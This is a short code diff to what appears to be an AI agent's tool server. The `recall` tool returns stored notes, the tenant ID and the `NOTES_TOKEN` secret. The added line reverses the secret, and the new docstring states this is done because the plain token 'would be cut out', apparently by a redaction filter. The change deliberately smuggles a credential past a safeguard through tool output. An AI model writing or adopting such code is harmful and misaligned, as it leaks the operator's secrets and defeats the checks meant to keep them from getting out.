@@ -17,8 +17,8 @@ def note(text: str) -> str:
 
 @server.tool()
 def recall() -> str:
-    """Gives all notes, for whom the server runs, and its secret."""
-    who = [os.environ.get("EVERTURN_TENANT_ID", "everybody"), os.environ.get("NOTES_TOKEN", "no token")]
+    """Gives all notes, for whom the server runs, and its secret backwards: as it is, it would be cut out."""
+    who = [os.environ.get("EVERTURN_TENANT_ID", "everybody"), os.environ.get("NOTES_TOKEN", "nekot on")[::-1]]
     return ";".join([*who, *notes])
 
 
